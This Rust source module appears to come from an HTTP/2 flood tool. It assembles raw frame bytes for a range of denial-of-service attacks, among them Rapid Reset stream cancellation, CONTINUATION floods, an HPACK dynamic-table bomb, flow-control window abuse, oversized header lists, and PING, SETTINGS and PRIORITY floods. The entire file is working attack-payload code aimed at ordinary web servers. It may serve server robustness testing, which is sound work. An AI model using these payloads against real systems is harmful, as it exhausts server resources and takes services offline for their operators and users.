//! What the floods are made of.

use super::Attack;
use super::stage::{Stage, message, stream};
use crate::wire::{self, NEWEST, flag, frame, kind, window_update};

const CANCEL: [u8; 4] = [0, 0, 0, 8];
const BIGGEST_INCREMENT: u32 = (1 << 31) - 1;
/// A frame's default limit (RFC 9113 §4.2).
const WHOLE_FRAME: usize = 16_384;

/// The bytes of one unit of the flood, for the number that it has on its connection.
pub(super) fn unit(attack: Attack, stage: &Stage, number: u64) -> Vec<u8> {
    let id = stream(number);
    let first = number == 0;
    match attack {
        Attack::RapidReset => [stage.call(id), frame(kind::RST_STREAM, flag::NONE, id, &CANCEL)].concat(),
        Attack::WindowOverflow => [stage.call(id), window_update(id, BIGGEST_INCREMENT)].concat(),
        Attack::WindowZero => [stage.call(id), window_update(id, 0)].concat(),
        Attack::TooMuchContent => {
            let headers = stage.headers(&[("content-length", b"7")]);
            [
                frame(kind::HEADERS, flag::END_HEADERS, id, &headers),
                frame(kind::DATA, flag::NONE, id, &message()),
            ]
            .concat()
        }
        Attack::HeadersAfterEnd => [stage.call(id), stage.open(id)].concat(),
        Attack::DataAfterEnd => [stage.call(id), frame(kind::DATA, flag::NONE, id, b"more")].concat(),
        Attack::PriorityLength => [stage.call(id), frame(kind::PRIORITY, flag::NONE, id, &[0; 4])].concat(),
        Attack::PrioritySelf => [
            stage.call(id),
            frame(
                kind::PRIORITY,
                flag::NONE,
                id,
                &[&id.to_be_bytes()[..], &[1]].concat(),
            ),
        ]
        .concat(),
        Attack::Continuation if first => frame(kind::HEADERS, flag::NONE, id, &stage.headers(&[])),
        Attack::Continuation => {
            let more = wire::fields(&[("x-more", &[b'x'; 1_000])]);
            frame(kind::CONTINUATION, flag::NONE, 1, &more)
        }
        Attack::EmptyContinuation if first => frame(kind::HEADERS, flag::NONE, id, &stage.headers(&[])),
        Attack::EmptyContinuation => frame(kind::CONTINUATION, flag::NONE, 1, &[]),
        Attack::HpackBomb => hpack_bomb(stage, id, first),
        Attack::HeaderList => header_list(stage, id),
        Attack::Ping => frame(kind::PING, flag::NONE, 0, &[7; 8]),
        Attack::Settings => wire::settings(&[(wire::INITIAL_WINDOW_SIZE, stream(number))]),
        Attack::Priority => frame(kind::PRIORITY, flag::NONE, id, &[0, 0, 0, 0, 1]),
        Attack::WindowUpdates if number < (1 << 30) => window_update(0, 1),
        Attack::EmptyData if first => stage.open(1),
        Attack::EmptyData => frame(kind::DATA, flag::NONE, 1, &[]),
        Attack::TinyData if first => stage.open(1),
        Attack::TinyData => frame(kind::DATA, flag::NONE, 1, &[0]),
        Attack::UnknownFrames => frame(0xfa, flag::NONE, 0, &[7; 8]),
        Attack::RefusedStreams => stage.open(id),
        _ => Vec::new(),
    }
}

/// One entry of almost the whole dynamic table, and a header block of nothing but references to it.
fn hpack_bomb(stage: &Stage, id: u32, first: bool) -> Vec<u8> {
    let mut block = stage.headers(&[]);
    if first {
        block.extend(wire::remembered("x-bomb", &[b'x'; 4_000]));
    }
    block.resize(WHOLE_FRAME, NEWEST);
    frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, id, &block)
}

fn header_list(stage: &Stage, id: u32) -> Vec<u8> {
    let more = wire::fields(&[("x-long", &[b'x'; 16_000])]);
    let open = frame(kind::HEADERS, flag::END_STREAM, id, &stage.headers(&[]));
    let next = frame(kind::CONTINUATION, flag::NONE, id, &more);
    let last = frame(kind::CONTINUATION, flag::END_HEADERS, id, &more);
    [open, next.clone(), next.clone(), next, last].concat()
}
